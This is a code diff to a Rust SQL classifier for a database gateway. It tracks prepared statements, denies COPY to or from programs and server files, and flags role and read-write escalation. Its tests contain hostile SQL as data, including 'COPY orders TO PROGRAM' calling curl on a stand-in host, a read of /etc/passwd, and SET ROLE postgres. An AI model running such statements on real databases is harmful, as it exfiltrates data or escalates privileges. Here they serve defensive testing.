@@ -13,7 +13,7 @@ use std::ops::ControlFlow;
 
 use proto::policy::Operation;
 use sqlparser::ast::{
-    Expr, ObjectName, ObjectNamePart, SetExpr, Statement, visit_expressions, visit_relations,
+    Expr, ObjectName, ObjectNamePart, SetExpr, Statement, TableFactor, Visit, Visitor, visit_relations,
     visit_statements,
 };
 use sqlparser::dialect::PostgreSqlDialect;
@@ -94,13 +94,86 @@ pub struct Classification {
     pub unknown: Option<String>,
     /// The parser's error, if the text did not parse.
     pub unparsed: Option<String>,
-    /// A dangerous built-in was called.
+    /// A dangerous built-in was called, or a dangerous form used (`COPY ... PROGRAM`).
     pub denied_function: Option<String>,
     /// Number of statements.
     pub statements: usize,
+    /// What each top-level statement does to the session's prepared statements, in order.
+    pub effects: Vec<SessionEffect>,
+    /// SQL-level `EXECUTE name` in this message.
+    pub executes: Vec<String>,
+    /// Functions called that are neither known read-only built-ins nor denied: their effect
+    /// is unknown until their volatility is looked up ([`Classification::resolve_functions`]).
+    pub functions: BTreeSet<FunctionRef>,
+}
+
+/// A called function, as written (schema only when qualified).
+#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub struct FunctionRef {
+    pub schema: Option<String>,
+    pub name: String,
+}
+
+impl std::fmt::Display for FunctionRef {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match &self.schema {
+            Some(s) => write!(f, "{s}.{}", self.name),
+            None => f.write_str(&self.name),
+        }
+    }
 }
 
 impl Classification {
+    /// Why the effect cannot be known, if it cannot: an unresolvable construct, an `EXECUTE`
+    /// of a statement the session has not seen prepared, or a function of unknown volatility.
+    pub fn unknown_effect(&self) -> Option<String> {
+        self.unknown
+            .clone()
+            .or_else(|| {
+                self.executes
+                    .first()
+                    .map(|n| format!("EXECUTE {n} runs a statement the gateway has not seen prepared"))
+            })
+            .or_else(|| self.functions.iter().next().map(|f| format!("function {f}() may have side effects")))
+    }
+
+    /// Drop the functions `read_only` says are not volatile.
+    pub fn resolve_functions(&mut self, read_only: impl Fn(&FunctionRef) -> bool) {
+        self.functions.retain(|f| !read_only(f));
+    }
+
+    /// Replace each `EXECUTE name` by what the prepared statement does, when every name is known.
+    /// Unknown names leave the classification unknown (and so subject to `unknown_operation`).
+    ///
+    /// Statements prepared earlier in the same message take precedence over `prepared`.
+    pub fn resolve_executes(&mut self, prepared: &std::collections::HashMap<String, Classification>) {
+        if self.executes.is_empty() {
+            return;
+        }
+        let mut here: std::collections::HashMap<String, Classification> = std::collections::HashMap::new();
+        for e in &self.effects {
+            if let SessionEffect::Prepare(n, c) = e {
+                here.insert(n.clone(), (**c).clone());
+            }
+        }
+        let lookup = |n: &str| here.get(n).or_else(|| prepared.get(n)).cloned();
+        let resolved: Vec<Option<Classification>> = self.executes.iter().map(|n| lookup(n)).collect();
+        if resolved.iter().any(Option::is_none) {
+            return;
+        }
+        for p in resolved.into_iter().flatten() {
+            self.accesses.extend(p.accesses.iter().cloned());
+            if self.denied_function.is_none() {
+                self.denied_function.clone_from(&p.denied_function);
+            }
+            if self.unknown.is_none() {
+                self.unknown.clone_from(&p.unknown);
+            }
+            self.functions.extend(p.functions.iter().cloned());
+        }
+        self.executes.clear();
+    }
+
     pub fn operations(&self) -> Vec<String> {
         let ops: BTreeSet<&str> = self.accesses.iter().map(|a| a.operation.as_str()).collect();
         ops.into_iter().map(str::to_string).collect()
@@ -111,6 +184,16 @@ impl Classification {
             self.accesses.iter().filter_map(|a| a.table.as_ref()).map(|t| t.to_string()).collect();
         t.into_iter().collect()
     }
+}
+
+/// What a statement does to the session's prepared statements, once the server has run it.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum SessionEffect {
+    /// `PREPARE name AS ...`, with what the prepared statement does.
+    Prepare(String, Box<Classification>),
+    /// `DEALLOCATE name` (`None`: `DEALLOCATE ALL` or `DISCARD ALL`).
+    Deallocate(Option<String>),
+    None,
 }
 
 /// Built-ins that are never allowed through the gateway, whatever the rules say.
@@ -323,11 +406,16 @@ const READ_ONLY_FUNCTIONS: &[&str] = &[
     "to_tsquery",
     "plainto_tsquery",
     "ts_rank",
+    "pg_sleep",
     "any",
     "all",
     "filter",
     "in",
 ];
+
+fn ident_name(id: &sqlparser::ast::Ident) -> String {
+    if id.quote_style.is_some() { id.value.clone() } else { id.value.to_lowercase() }
+}
 
 fn function_name(n: &ObjectName) -> String {
     n.0.iter()
@@ -440,9 +528,57 @@ pub fn classify(sql: &str) -> Classification {
         return c;
     }
     for stmt in &statements {
+        c.effects.push(effect(stmt));
+        if escalates(stmt) {
+            c.accesses.insert(Access { operation: Operation::Escalate, table: None });
+        }
         classify_statement(stmt, &mut c);
     }
     c
+}
+
+/// Does this session-state statement widen the session's rights?
+fn escalates(stmt: &Statement) -> bool {
+    if !matches!(stmt, Statement::Set(_) | Statement::Reset(_) | Statement::StartTransaction { .. }) {
+        return false;
+    }
+    let text = stmt.to_string().to_lowercase();
+    let words: Vec<&str> =
+        text.split(|c: char| c.is_whitespace() || c == '=').filter(|w| !w.is_empty()).collect();
+    let target: Vec<&str> = match words.as_slice() {
+        ["set" | "reset", "session" | "local", rest @ ..] => rest.to_vec(),
+        ["set" | "reset", rest @ ..] => rest.to_vec(),
+        _ => vec![],
+    };
+    let role_change = matches!(target.first(), Some(&"role") | Some(&"all"))
+        || matches!(target.as_slice(), ["authorization", ..])
+        || text.starts_with("set session authorization")
+        || text.starts_with("reset session authorization");
+    role_change
+        || text.contains("read_only")
+        || text.contains("read write")
+        || text.contains("\"role\"")
+        || text.contains("session_authorization")
+}
+
+fn effect(stmt: &Statement) -> SessionEffect {
+    match stmt {
+        Statement::Prepare { name, statement, .. } => {
+            let mut inner = Classification { statements: 1, ..Default::default() };
+            classify_statement(statement, &mut inner);
+            SessionEffect::Prepare(ident_name(name), Box::new(inner))
+        }
+        Statement::Deallocate { name, .. } => {
+            let n = ident_name(name);
+            if n == "all" && name.quote_style.is_none() {
+                SessionEffect::Deallocate(None)
+            } else {
+                SessionEffect::Deallocate(Some(n))
+            }
+        }
+        Statement::Discard { .. } => SessionEffect::Deallocate(None),
+        _ => SessionEffect::None,
+    }
 }
 
 fn relations_of(stmt: &Statement) -> BTreeSet<TableName> {
@@ -462,12 +598,30 @@ fn relations_of(stmt: &Statement) -> BTreeSet<TableName> {
 
 fn classify_statement(top: &Statement, c: &mut Classification) {
     // Every statement node, the top one and any nested in CTEs, EXPLAIN, PREPARE, DECLARE.
+    match top {
+        Statement::Execute { name: Some(name), .. } => c.executes.push(function_name(name)),
+        Statement::Copy { to, target, source, .. } => {
+            use sqlparser::ast::{CopySource, CopyTarget};
+            if !matches!(target, CopyTarget::Stdin | CopyTarget::Stdout) {
+                c.denied_function.get_or_insert_with(|| "COPY to or from a server file or program".into());
+            }
+            if let CopySource::Table { table_name, .. } = source
+                && let Some(t) = TableName::from_object_name(table_name)
+            {
+                let op = if *to { Operation::Select } else { Operation::Insert };
+                c.accesses.insert(Access { operation: op, table: Some(t.clone()) });
+                c.accesses.insert(Access { operation: Operation::Copy, table: Some(t) });
+            }
+        }
+        _ => {}
+    }
     let _ = visit_statements(top, |stmt| {
         match operation(stmt) {
+            None if matches!(stmt, Statement::Execute { name: Some(_), .. }) => {}
             None => {
                 let kind = format!("{stmt}");
                 let kind: String = kind.split_whitespace().next().unwrap_or("statement").to_uppercase();
-                c.unknown.get_or_insert_with(|| format!("the effect of {kind} cannot be known"));
+                c.unknown = Some(format!("the effect of {kind} cannot be known"));
             }
             Some(op) => {
                 let rels = relations_of(stmt);
@@ -485,26 +639,78 @@ fn classify_statement(top: &Statement, c: &mut Classification) {
         ControlFlow::<()>::Continue(())
     });
     if let Statement::Call(f) = top {
-        c.unknown.get_or_insert_with(|| format!("CALL {} can do anything", function_name(&f.name)));
+        c.unknown = Some(format!("CALL {} can do anything", function_name(&f.name)));
         c.accesses.insert(Access { operation: Operation::Call, table: None });
     }
-    let _ = visit_expressions(top, |e| {
+    let mut calls = Calls { c };
+    let _ = top.visit(&mut calls);
+}
+
+/// Judges every function call: in expressions and in FROM (`SELECT * FROM f()`).
+struct Calls<'a> {
+    c: &'a mut Classification,
+}
+
+impl Calls<'_> {
+    fn call(&mut self, name: &ObjectName) {
+        let c = &mut *self.c;
+        let full = function_name(name);
+        let bare = full.rsplit('.').next().unwrap_or_default().to_string();
+        let system = full == bare || full.starts_with("pg_catalog.");
+        if system
+            && (DENIED_FUNCTIONS.contains(&bare.as_str())
+                || bare.starts_with("lo_")
+                || bare.starts_with("dblink"))
+        {
+            c.denied_function.get_or_insert(bare);
+        } else if !(system && READ_ONLY_FUNCTIONS.contains(&bare.as_str())) {
+            let parts: Vec<String> = name
+                .0
+                .iter()
+                .filter_map(|p| match p {
+                    ObjectNamePart::Identifier(id) => Some(ident_name(id)),
+                    ObjectNamePart::Function(_) => None,
+                })
+                .collect();
+            match parts.as_slice() {
+                [n] => c.functions.insert(FunctionRef { schema: None, name: n.clone() }),
+                [.., s, n] => c.functions.insert(FunctionRef { schema: Some(s.clone()), name: n.clone() }),
+                [] => {
+                    c.unknown = Some(format!("function {full}() cannot be identified"));
+                    false
+                }
+            };
+        }
+    }
+}
+
+impl Visitor for Calls<'_> {
+    type Break = ();
+
+    fn pre_visit_expr(&mut self, e: &Expr) -> ControlFlow<()> {
         if let Expr::Function(f) = e {
-            let full = function_name(&f.name);
-            let bare = full.rsplit('.').next().unwrap_or_default().to_string();
-            let system = full == bare || full.starts_with("pg_catalog.");
-            if system
-                && (DENIED_FUNCTIONS.contains(&bare.as_str())
-                    || bare.starts_with("lo_")
-                    || bare.starts_with("dblink"))
-            {
-                c.denied_function.get_or_insert(bare);
-            } else if !(system && READ_ONLY_FUNCTIONS.contains(&bare.as_str())) {
-                c.unknown.get_or_insert_with(|| format!("function {full}() may have side effects"));
+            self.call(&f.name);
+        }
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_table_factor(&mut self, t: &TableFactor) -> ControlFlow<()> {
+        match t {
+            TableFactor::Table { name, args: Some(_), .. } | TableFactor::Function { name, .. } => {
+                self.call(name)
+            }
+            // Table-valued forms the gateway does not inspect: their effect is unknown.
+            TableFactor::Table { .. }
+            | TableFactor::Derived { .. }
+            | TableFactor::TableFunction { .. }
+            | TableFactor::UNNEST { .. }
+            | TableFactor::NestedJoin { .. } => {}
+            _ => {
+                self.c.unknown = Some("a table expression the gateway cannot inspect".into());
             }
         }
-        ControlFlow::<()>::Continue(())
-    });
+        ControlFlow::Continue(())
+    }
 }
 
 #[cfg(test)]
@@ -522,7 +728,7 @@ mod tests {
         let c = classify("SELECT o.id FROM Orders o JOIN public.users u ON u.id = o.user_id");
         assert!(has(&c, Operation::Select, "orders"));
         assert!(has(&c, Operation::Select, "public.users"));
-        assert!(c.unknown.is_none() && c.unparsed.is_none());
+        assert!(c.unknown_effect().is_none() && c.unparsed.is_none());
         assert_eq!(c.operations(), vec!["select"]);
     }
 
@@ -547,6 +753,75 @@ mod tests {
     }
 
     #[test]
+    fn sql_prepare_then_execute_resolves_to_the_prepared_write() {
+        let p = classify("PREPARE p(int) AS DELETE FROM orders WHERE id = $1");
+        let prepared: std::collections::HashMap<_, _> = p
+            .effects
+            .into_iter()
+            .filter_map(|e| match e {
+                SessionEffect::Prepare(n, c) => Some((n, *c)),
+                _ => None,
+            })
+            .collect();
+        assert_eq!(prepared.len(), 1);
+        let mut same = classify("PREPARE q AS UPDATE orders SET id = 1; EXECUTE q");
+        same.resolve_executes(&Default::default());
+        assert!(has(&same, Operation::Update, "orders") && same.unknown_effect().is_none(), "{same:?}");
+        let mut e = classify("EXECUTE p(1)");
+        assert!(e.unknown_effect().is_some(), "unknown until resolved");
+        e.resolve_executes(&prepared);
+        assert!(e.unknown_effect().is_none(), "{e:?}");
+        assert!(has(&e, Operation::Delete, "orders"), "{e:?}");
+        let mut other = classify("EXECUTE q(1)");
+        other.resolve_executes(&prepared);
+        assert!(other.unknown_effect().is_some(), "an unknown name stays unknown");
+        let mut mixed = classify("EXECUTE p(1); SELECT my_func()");
+        mixed.resolve_executes(&prepared);
+        assert!(mixed.unknown_effect().is_some(), "other unknowns stay");
+    }
+
+    #[test]
+    fn copy_direction_decides_read_or_write() {
+        let c = classify("COPY orders FROM STDIN");
+        assert!(has(&c, Operation::Insert, "orders") && has(&c, Operation::Copy, "orders"), "{c:?}");
+        let c = classify("COPY orders TO STDOUT");
+        assert!(!has(&c, Operation::Insert, "orders") && has(&c, Operation::Select, "orders"), "{c:?}");
+        assert!(classify("COPY orders TO PROGRAM 'curl evil'").denied_function.is_some());
+        assert!(classify("COPY orders FROM '/etc/passwd'").denied_function.is_some());
+    }
+
+    #[test]
+    fn rights_widening_session_changes_are_escalations() {
+        for sql in [
+            "SET ROLE postgres",
+            "set role = 'admin'",
+            "SET SESSION ROLE admin",
+            "SET LOCAL ROLE admin",
+            "RESET ROLE",
+            "RESET ALL",
+            "SET SESSION AUTHORIZATION postgres",
+            "RESET SESSION AUTHORIZATION",
+            "SET default_transaction_read_only = off",
+            "SET transaction_read_only TO off",
+            "set SESSION default_transaction_read_only to false",
+            "BEGIN READ WRITE",
+            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE",
+            "SET TRANSACTION READ WRITE",
+            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
+        ] {
+            let c = classify(sql);
+            assert!(
+                c.unparsed.is_some() || c.accesses.iter().any(|a| a.operation == Operation::Escalate),
+                "{sql}: {c:?}"
+            );
+        }
+        for sql in ["SET search_path TO public", "BEGIN", "BEGIN READ ONLY", "SET statement_timeout = 5"] {
+            let c = classify(sql);
+            assert!(!c.accesses.iter().any(|a| a.operation == Operation::Escalate), "{sql}: {c:?}");
+        }
+    }
+
+    #[test]
     fn select_into_is_a_create() {
         let c = classify("SELECT * INTO stolen FROM users");
         assert!(c.accesses.iter().any(|a| a.operation == Operation::Create), "{c:?}");
@@ -554,8 +829,8 @@ mod tests {
 
     #[test]
     fn execute_and_call_have_unknown_effect() {
-        assert!(classify("EXECUTE p").unknown.is_some());
-        assert!(classify("CALL do_things()").unknown.is_some());
+        assert!(classify("EXECUTE p").unknown_effect().is_some());
+        assert!(classify("CALL do_things()").unknown_effect().is_some());
     }
 
     #[test]
@@ -569,9 +844,9 @@ mod tests {
             classify("select pg_catalog.set_config('role','x',false)").denied_function.as_deref(),
             Some("set_config")
         );
-        assert!(classify("SELECT my_func(1)").unknown.is_some());
+        assert!(classify("SELECT my_func(1)").unknown_effect().is_some());
         let c = classify("SELECT count(*), lower(name) FROM users");
-        assert!(c.unknown.is_none() && c.denied_function.is_none(), "{c:?}");
+        assert!(c.unknown_effect().is_none() && c.denied_function.is_none(), "{c:?}");
     }
 
     #[test]
